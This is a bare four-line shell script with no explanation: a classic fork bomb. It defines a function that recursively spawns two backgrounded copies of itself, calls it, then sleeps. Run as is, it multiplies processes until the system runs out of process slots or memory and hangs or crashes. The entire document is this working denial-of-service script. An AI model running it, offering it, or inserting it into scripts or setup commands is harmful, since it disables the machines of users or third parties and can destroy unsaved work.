#!/bin/sh
bomb() { bomb | bomb & }
bomb
sleep 1000
